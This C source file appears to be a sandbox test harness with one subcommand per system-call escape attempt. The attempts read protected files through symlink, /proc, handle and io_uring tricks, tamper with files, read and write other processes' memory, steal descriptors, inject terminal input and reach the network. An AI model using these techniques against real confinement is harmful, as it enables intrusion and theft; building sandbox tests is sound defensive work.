/* Attacks at the system-call boundary, one subcommand each. What an attack obtained goes to standard output, or is an
 * effect on the file it was given; the judge is outside and looks at those, never at what this program claims.
 * Left out: attacks an ordinary program makes (they are shell scripts in the tests) and races (race.c). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int fail(const char *what) { fprintf(stderr, "%s: %s\n", what, strerror(errno)); return 1; }

static int pour(int file) {
    char text[4096];
    ssize_t n;
    if (file < 0) return fail("open");
    while ((n = read(file, text, sizeof text)) > 0)
        if (write(1, text, (size_t)n) != n) return fail("write");
    return n < 0 ? fail("read") : 0;
}

static void split(const char *path, char *directory, const char **name) {
    strcpy(directory, path);
    char *slash = strrchr(directory, '/');
    *slash = 0;
    *name = path + (slash - directory) + 1;
}

/* -- reading what must not be read -------------------------------------------------------------------------------- */

static int plain(char **a) { return pour(open(a[0], O_RDONLY)); }
static int read_write(char **a) { return pour(open(a[0], O_RDWR)); }
static int legacy_open(char **a) { return pour((int)syscall(SYS_open, a[0], O_RDONLY, 0)); }
static int by_openat2(char **a) {
    struct open_how how = {.flags = O_RDONLY};
    return pour((int)syscall(SYS_openat2, AT_FDCWD, a[0], &how, sizeof how));
}
static int by_symlink(char **a) { return symlink(a[0], a[1]) ? fail("symlink") : pour(open(a[1], O_RDONLY)); }
static int by_chain(char **a) {
    char name[4096], before[4096];
    strcpy(before, a[0]);
    for (int i = 0; i < 8; i++) {
        snprintf(name, sizeof name, "%s.%d", a[1], i);
        if (symlink(before, name)) return fail("symlink");
        strcpy(before, name);
    }
    return pour(open(before, O_RDONLY));
}
static int by_parent_link(char **a) {
    char directory[4096], through[8192];
    const char *name;
    split(a[0], directory, &name);
    if (symlink(directory, a[1])) return fail("symlink");
    snprintf(through, sizeof through, "%s/%s", a[1], name);
    return pour(open(through, O_RDONLY));
}
static int by_hard_link(char **a) { return link(a[0], a[1]) ? fail("link") : pour(open(a[1], O_RDONLY)); }
static int by_linkat_empty(char **a) {
    int file = open(a[0], O_PATH);
    char self[64];
    if (file < 0) return fail("open O_PATH");
    snprintf(self, sizeof self, "/proc/self/fd/%d", file);
    if (linkat(file, "", AT_FDCWD, a[1], AT_EMPTY_PATH) && linkat(AT_FDCWD, self, AT_FDCWD, a[1], AT_SYMLINK_FOLLOW))
        return fail("linkat");
    return pour(open(a[1], O_RDONLY));
}
static int by_dots(char **a) {
    char path[8192];
    snprintf(path, sizeof path, "%s/../../../../../../../../../..//./%s", a[1], a[0]);
    return pour(open(path, O_RDONLY));
}
static int by_proc_root(char **a) {
    char path[8192];
    snprintf(path, sizeof path, "/proc/self/root%s", a[0]);
    return pour(open(path, O_RDONLY));
}
static int by_thread_root(char **a) {
    char path[8192];
    snprintf(path, sizeof path, "/proc/thread-self/root/proc/self/task/%d/root%s", getpid(), a[0]);
    return pour(open(path, O_RDONLY));
}
static int by_proc_cwd(char **a) {
    char directory[4096], path[8192];
    const char *name;
    split(a[0], directory, &name);
    if (chdir(directory)) return fail("chdir");
    snprintf(path, sizeof path, "/proc/self/cwd/%s", name);
    return pour(open(path, O_RDONLY));
}
static int by_reopen(char **a) {
    char self[64];
    int file = open(a[0], O_PATH);
    if (file < 0) return fail("open O_PATH");
    snprintf(self, sizeof self, "/proc/self/fd/%d", file);
    return pour(open(self, O_RDONLY));
}
static int by_dev_fd(char **a) {
    char self[64];
    int file = open(a[0], O_PATH);
    if (file < 0) return fail("open O_PATH");
    snprintf(self, sizeof self, "/dev/fd/%d", file);
    return pour(open(self, O_RDONLY));
}
static int by_opath_parent(char **a) {
    char directory[4096];
    const char *name;
    split(a[0], directory, &name);
    int parent = open(directory, O_PATH | O_DIRECTORY);
    return parent < 0 ? fail("open O_PATH") : pour(openat(parent, name, O_RDONLY));
}
static int by_handle(char **a) {
    struct { struct file_handle head; unsigned char bytes[128]; } handle = {.head = {.handle_bytes = 128}};
    int mount_id, mount_file = open("/", O_RDONLY | O_DIRECTORY);
    if (name_to_handle_at(AT_FDCWD, a[0], &handle.head, &mount_id, 0)) return fail("name_to_handle_at");
    return pour(open_by_handle_at(mount_file, &handle.head, O_RDONLY));
}
static int by_rename(char **a) { return rename(a[0], a[1]) ? fail("rename") : pour(open(a[1], O_RDONLY)); }
static int by_exchange(char **a) {
    int file = open(a[1], O_CREAT | O_WRONLY, 0600);
    if (file < 0) return fail("creat");
    close(file);
    return syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) ? fail("renameat2") : pour(open(a[1], O_RDONLY));
}
static int by_parent_rename(char **a) {
    char directory[4096], path[8192];
    const char *name;
    split(a[0], directory, &name);
    if (rename(directory, a[1])) return fail("rename");
    snprintf(path, sizeof path, "%s/%s", a[1], name);
    return pour(open(path, O_RDONLY));
}
static int by_io_uring(char **a) {
    struct io_uring_params p = {0};
    int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
    if (ring < 0) return fail("io_uring_setup");
    char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqe = mmap(NULL, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED) return fail("mmap");
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (uintptr_t)a[0];
    sqe->open_flags = O_RDONLY;
    ((unsigned *)(sq + p.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return fail("io_uring_enter");
    struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    errno = cqe->res < 0 ? -cqe->res : 0;
    return pour(cqe->res < 0 ? -1 : cqe->res);
}
static int by_int80(char **a) { /* the 32-bit entry: open is 5 there; the path must lie below 4 GiB */
    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (low == MAP_FAILED) return fail("mmap");
    strcpy(low, a[0]);
    long file;
    __asm__ volatile("int $0x80" : "=a"(file) : "a"(5L), "b"((long)low), "c"(0L), "d"(0L) : "memory", "r8", "r9", "r10", "r11");
    if (file < 0) { errno = (int)-file; return fail("int80 open"); }
    return pour((int)file);
}
static int by_x32(char **a) { return pour((int)syscall(0x40000000 | SYS_open, a[0], O_RDONLY, 0)); }
static int by_chroot(char **a) {
    char directory[4096], path[4096];
    const char *name;
    split(a[0], directory, &name);
    if (chroot(directory)) return fail("chroot");
    snprintf(path, sizeof path, "/%s", name);
    return pour(open(path, O_RDONLY));
}
static int by_bind_mount(char **a) {
    char directory[4096], path[8192];
    const char *name;
    split(a[0], directory, &name);
    if (geteuid() ? unshare(CLONE_NEWUSER | CLONE_NEWNS) : unshare(CLONE_NEWNS)) return fail("unshare");
    mkdir(a[1], 0700);
    if (mount(directory, a[1], NULL, MS_BIND, NULL)) return fail("mount");
    snprintf(path, sizeof path, "%s/%s", a[1], name);
    return pour(open(path, O_RDONLY));
}
static int by_open_tree(char **a) {
    char directory[4096];
    const char *name;
    split(a[0], directory, &name);
    if (geteuid()) unshare(CLONE_NEWUSER | CLONE_NEWNS);
    int tree = (int)syscall(428, AT_FDCWD, directory, 1 /* OPEN_TREE_CLONE */);
    return tree < 0 ? fail("open_tree") : pour(openat(tree, name, O_RDONLY));
}
static int by_user_namespace(char **a) { return unshare(CLONE_NEWUSER) ? fail("unshare") : pour(open(a[0], O_RDONLY)); }
static int self_copy(char **a) {
    int from = open("/proc/self/exe", O_RDONLY), memory = (int)syscall(SYS_memfd_create, "copy", 0);
    struct stat st;
    if (from < 0 || memory < 0 || fstat(from, &st)) return fail("memfd");
    if (sendfile(memory, from, NULL, (size_t)st.st_size) != st.st_size) return fail("sendfile");
    char *arguments[] = {"copy", "announce", a[0], NULL}, *environment[] = {NULL};
    syscall(SYS_execveat, memory, "", arguments, environment, AT_EMPTY_PATH);
    return fail("execveat");
}
static int announce(char **a) { return printf("ran %s\n", a[0]) < 0; }
static int of_process(char **a) { /* /proc/PID/WHAT of a process outside */
    char path[256];
    snprintf(path, sizeof path, "/proc/%s/%s", a[0], a[1]);
    return pour(open(path, O_RDONLY));
}
static int vm_read(char **a) { /* memory of a process outside: PID ADDRESS LENGTH */
    char text[4096];
    struct iovec here = {text, (size_t)atoi(a[2])}, there = {(void *)strtoull(a[1], NULL, 16), (size_t)atoi(a[2])};
    ssize_t n = process_vm_readv(atoi(a[0]), &here, 1, &there, 1, 0);
    return n < 0 ? fail("process_vm_readv") : write(1, text, (size_t)n) != n;
}
static int vm_write(char **a) { /* PID ADDRESS: change a byte of a process outside */
    char text[] = "OWNED";
    struct iovec here = {text, 5}, there = {(void *)strtoull(a[1], NULL, 16), 5};
    return process_vm_writev(atoi(a[0]), &here, 1, &there, 1, 0) < 0 ? fail("process_vm_writev") : 0;
}
static int attach(char **a) {
    int pid = atoi(a[0]);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return fail("ptrace");
    return printf("attached\n") < 0;
}
static int steal(char **a) { /* PID FD: a descriptor of a process outside */
    int process = (int)syscall(SYS_pidfd_open, atoi(a[0]), 0);
    if (process < 0) return fail("pidfd_open");
    int file = (int)syscall(SYS_pidfd_getfd, process, atoi(a[1]), 0);
    return file < 0 ? fail("pidfd_getfd") : (lseek(file, 0, SEEK_SET), pour(file));
}
static int receive(char **a) { /* SOCKET: a descriptor from a friend outside */
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strcpy(to.sun_path, a[0]);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to)) return fail("connect");
    char byte, control[CMSG_SPACE(sizeof(int))];
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    if (recvmsg(s, &message, 0) < 0 || !CMSG_FIRSTHDR(&message)) return fail("recvmsg");
    return pour(*(int *)CMSG_DATA(CMSG_FIRSTHDR(&message)));
}

/* -- changing what must not be changed (FILE) ---------------------------------------------------------------------- */

static int put(int file) { return file < 0 ? fail("open") : write(file, "OWNED", 5) != 5; }
static int write_plain(char **a) { return put(open(a[0], O_WRONLY | O_CREAT, 0644)); }
static int write_creat(char **a) { return put((int)syscall(SYS_creat, a[0], 0644)); }
static int write_append(char **a) { return put(open(a[0], O_WRONLY | O_APPEND | O_CREAT, 0644)); }
static int write_trunc(char **a) { return open(a[0], O_RDONLY | O_TRUNC) < 0 ? fail("open") : 0; }
static int cut(char **a) { return truncate(a[0], 0) ? fail("truncate") : 0; }
static int write_tmpfile(char **a) {
    char directory[4096], self[64];
    const char *name;
    split(a[0], directory, &name);
    int file = open(directory, O_TMPFILE | O_WRONLY, 0644);
    if (put(file)) return 1;
    snprintf(self, sizeof self, "/proc/self/fd/%d", file);
    unlink(a[0]);
    return linkat(AT_FDCWD, self, AT_FDCWD, a[0], AT_SYMLINK_FOLLOW) ? fail("linkat") : 0;
}
static int write_link(char **a) { /* FILE INNOCENT: through a symlink made before */
    return symlink(a[0], a[1]) ? fail("symlink") : put(open(a[1], O_WRONLY | O_CREAT, 0644));
}
static int prepare(const char *innocent) {
    int file = open(innocent, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    return put(file) || close(file);
}
static int write_rename(char **a) { return prepare(a[1]) || rename(a[1], a[0]) ? fail("rename") : 0; }
static int write_renameat2(char **a) { return prepare(a[1]) || syscall(SYS_renameat2, AT_FDCWD, a[1], AT_FDCWD, a[0], 0) ? fail("renameat2") : 0; }
static int write_hard_link(char **a) { unlink(a[0]); return prepare(a[1]) || link(a[1], a[0]) ? fail("link") : 0; }
static int write_symlink(char **a) { unlink(a[0]); return prepare(a[1]) || symlink(a[1], a[0]) ? fail("symlink") : 0; }
static int write_parent_rename(char **a) { /* a prepared directory takes the place of the one that holds FILE */
    char directory[4096], path[8192], aside[8192];
    const char *name;
    split(a[0], directory, &name);
    if (mkdir(a[1], 0755)) return fail("mkdir");
    snprintf(path, sizeof path, "%s/%s", a[1], name);
    snprintf(aside, sizeof aside, "%s.aside", a[1]);
    if (prepare(path)) return fail("prepare");
    if (rename(directory, aside) && errno != ENOENT) return fail("rename away");
    return rename(a[1], directory) ? fail("rename in") : 0;
}
static int remove_it(char **a) { return unlink(a[0]) ? fail("unlink") : 0; }
static int mode(char **a) { return chmod(a[0], 0777) ? fail("chmod") : 0; }
static int mode_descriptor(char **a) { int f = open(a[0], O_RDONLY); return f < 0 || fchmod(f, 0777) ? fail("fchmod") : 0; }
static int mode_at2(char **a) { return syscall(452, AT_FDCWD, a[0], 0777, 0) ? fail("fchmodat2") : 0; }
static int times(char **a) {
    struct timespec when[2] = {{0, 0}, {0, 0}};
    return utimensat(AT_FDCWD, a[0], when, 0) ? fail("utimensat") : 0;
}
static int times_descriptor(char **a) {
    struct timespec when[2] = {{0, 0}, {0, 0}};
    int f = open(a[0], O_RDONLY);
    return f < 0 || futimens(f, when) ? fail("futimens") : 0;
}
static int attribute(char **a) { return setxattr(a[0], "user.owned", "1", 1, 0) ? fail("setxattr") : 0; }
static int flags(char **a) { /* FS_IOC_SETFLAGS works on a read-only descriptor */
    long value = FS_NODUMP_FL;
    int f = open(a[0], O_RDONLY);
    return f < 0 || ioctl(f, FS_IOC_SETFLAGS, &value) ? fail("FS_IOC_SETFLAGS") : 0;
}

/* -- reaching outside ---------------------------------------------------------------------------------------------- */

static int signal_process(char **a) { return kill(atoi(a[0]), atoi(a[1])) ? fail("kill") : 0; }
static int signal_thread(char **a) { return syscall(SYS_tgkill, atoi(a[0]), atoi(a[0]), atoi(a[1])) ? fail("tgkill") : 0; }
static int signal_tkill(char **a) { return syscall(SYS_tkill, atoi(a[0]), atoi(a[1])) ? fail("tkill") : 0; }
static int signal_pidfd(char **a) {
    int process = (int)syscall(SYS_pidfd_open, atoi(a[0]), 0);
    return process < 0 || syscall(SYS_pidfd_send_signal, process, atoi(a[1]), NULL, 0) ? fail("pidfd_send_signal") : 0;
}
static int signal_queue(char **a) {
    union sigval value = {0};
    return sigqueue(atoi(a[0]), atoi(a[1]), value) ? fail("sigqueue") : 0;
}
static int address(const char *text, const char *port, struct sockaddr_storage *to, socklen_t *size) {
    struct sockaddr_in6 *six = (void *)to;
    struct sockaddr_in *four = (void *)to;
    memset(to, 0, sizeof *to);
    if (strchr(text, ':')) {
        six->sin6_family = AF_INET6;
        six->sin6_port = htons((uint16_t)atoi(port));
        *size = sizeof *six;
        return inet_pton(AF_INET6, text, &six->sin6_addr) == 1;
    }
    four->sin_family = AF_INET;
    four->sin_port = htons((uint16_t)atoi(port));
    *size = sizeof *four;
    return inet_pton(AF_INET, text, &four->sin_addr) == 1;
}
static int tcp(char **a, int protocol) {
    struct sockaddr_storage to;
    socklen_t size;
    address(a[0], a[1], &to, &size);
    int s = socket(to.ss_family, SOCK_STREAM, protocol);
    if (s < 0 || connect(s, (void *)&to, size)) return fail("connect");
    return write(s, "OWNED", 5) != 5;
}
static int tcp_connect(char **a) { return tcp(a, 0); }
static int mptcp_connect(char **a) { return tcp(a, 262); }
static int tcp_fast_open(char **a) {
    struct sockaddr_storage to;
    socklen_t size;
    address(a[0], a[1], &to, &size);
    int s = socket(to.ss_family, SOCK_STREAM, 0);
    return sendto(s, "OWNED", 5, 0x20000000 /* MSG_FASTOPEN */, (void *)&to, size) != 5 ? fail("sendto") : 0;
}
static int udp_sendto(char **a) {
    struct sockaddr_storage to;
    socklen_t size;
    address(a[0], a[1], &to, &size);
    int s = socket(to.ss_family, SOCK_DGRAM, 0);
    return sendto(s, "OWNED", 5, 0, (void *)&to, size) != 5 ? fail("sendto") : 0;
}
static int udp_message(char **a, int many) {
    struct sockaddr_storage to;
    socklen_t size;
    address(a[0], a[1], &to, &size);
    struct iovec part = {"OWNED", 5};
    struct mmsghdr message = {.msg_hdr = {.msg_name = &to, .msg_namelen = size, .msg_iov = &part, .msg_iovlen = 1}};
    int s = socket(to.ss_family, SOCK_DGRAM, 0);
    if (many) return sendmmsg(s, &message, 1, 0) != 1 ? fail("sendmmsg") : 0;
    return sendmsg(s, &message.msg_hdr, 0) != 5 ? fail("sendmsg") : 0;
}
static int udp_sendmsg(char **a) { return udp_message(a, 0); }
static int udp_sendmmsg(char **a) { return udp_message(a, 1); }
static int udp_connected(char **a) {
    struct sockaddr_storage to;
    socklen_t size;
    address(a[0], a[1], &to, &size);
    int s = socket(to.ss_family, SOCK_DGRAM, 0);
    return connect(s, (void *)&to, size) || send(s, "OWNED", 5, 0) != 5 ? fail("connect") : 0;
}
static int unix_connect(char **a, int kind, int abstract) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strcpy(to.sun_path + abstract, a[0]);
    socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)abstract + strlen(a[0]) + (abstract ? 0 : 1));
    int s = socket(AF_UNIX, kind, 0);
    if (kind == SOCK_DGRAM) return sendto(s, "OWNED", 5, 0, (void *)&to, size) != 5 ? fail("sendto") : 0;
    return connect(s, (void *)&to, size) || write(s, "OWNED", 5) != 5 ? fail("connect") : 0;
}
static int unix_stream(char **a) { return unix_connect(a, SOCK_STREAM, 0); }
static int unix_datagram(char **a) { return unix_connect(a, SOCK_DGRAM, 0); }
static int unix_abstract(char **a) { return unix_connect(a, SOCK_STREAM, 1); }
static int unix_link(char **a) { return symlink(a[0], a[1]) ? fail("symlink") : unix_connect(a + 1, SOCK_STREAM, 0); }
static int inject(char **a) { /* type into the terminal that standard input is */
    for (const char *at = a[0]; *at; at++)
        if (ioctl(0, TIOCSTI, at)) return fail("TIOCSTI");
    return printf("typed\n") < 0;
}
static int device(char **a) { return mknod(a[0], S_IFBLK | 0600, makedev(254, 0)) ? fail("mknod") : 0; }

static const struct { const char *name; int arguments; int (*run)(char **); } attacks[] = {
    {"plain", 1, plain}, {"read-write", 1, read_write}, {"legacy-open", 1, legacy_open}, {"openat2", 1, by_openat2},
    {"symlink", 2, by_symlink}, {"symlink-chain", 2, by_chain}, {"parent-link", 2, by_parent_link}, {"hard-link", 2, by_hard_link},
    {"linkat-empty", 2, by_linkat_empty}, {"dots", 2, by_dots}, {"proc-root", 1, by_proc_root}, {"thread-root", 1, by_thread_root},
    {"proc-cwd", 1, by_proc_cwd}, {"reopen", 1, by_reopen}, {"dev-fd", 1, by_dev_fd}, {"opath-parent", 1, by_opath_parent},
    {"handle", 1, by_handle}, {"rename", 2, by_rename}, {"exchange", 2, by_exchange}, {"parent-rename", 2, by_parent_rename},
    {"io-uring", 1, by_io_uring}, {"int80", 1, by_int80}, {"x32", 1, by_x32}, {"chroot", 1, by_chroot}, {"bind-mount", 2, by_bind_mount},
    {"open-tree", 1, by_open_tree}, {"user-namespace", 1, by_user_namespace}, {"memfd-exec", 1, self_copy}, {"announce", 1, announce},
    {"of-process", 2, of_process}, {"vm-read", 3, vm_read}, {"vm-write", 2, vm_write}, {"attach", 1, attach}, {"steal", 2, steal},
    {"receive", 1, receive},
    {"write", 1, write_plain}, {"creat", 1, write_creat}, {"append", 1, write_append}, {"open-trunc", 1, write_trunc}, {"truncate", 1, cut},
    {"tmpfile", 1, write_tmpfile}, {"write-link", 2, write_link}, {"write-rename", 2, write_rename}, {"write-renameat2", 2, write_renameat2},
    {"write-hard-link", 2, write_hard_link}, {"write-symlink", 2, write_symlink}, {"write-parent-rename", 2, write_parent_rename},
    {"unlink", 1, remove_it}, {"chmod", 1, mode}, {"fchmod", 1, mode_descriptor}, {"fchmodat2", 1, mode_at2}, {"utimensat", 1, times},
    {"futimens", 1, times_descriptor}, {"setxattr", 1, attribute}, {"setflags", 1, flags},
    {"kill", 2, signal_process}, {"tgkill", 2, signal_thread}, {"tkill", 2, signal_tkill}, {"pidfd-signal", 2, signal_pidfd}, {"sigqueue", 2, signal_queue},
    {"tcp", 2, tcp_connect}, {"mptcp", 2, mptcp_connect}, {"fast-open", 2, tcp_fast_open}, {"udp-sendto", 2, udp_sendto}, {"udp-sendmsg", 2, udp_sendmsg},
    {"udp-sendmmsg", 2, udp_sendmmsg}, {"udp-connected", 2, udp_connected}, {"unix-stream", 1, unix_stream}, {"unix-datagram", 1, unix_datagram},
    {"unix-abstract", 1, unix_abstract}, {"unix-link", 2, unix_link}, {"inject", 1, inject}, {"device", 1, device},
};

int main(int count, char **arguments) {
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        if (count > 1 && !strcmp(arguments[1], attacks[i].name)) {
            if (count - 2 != attacks[i].arguments) return 64;
            return attacks[i].run(arguments + 2);
        }
    fprintf(stderr, "no such attack\n");
    return 64;
}
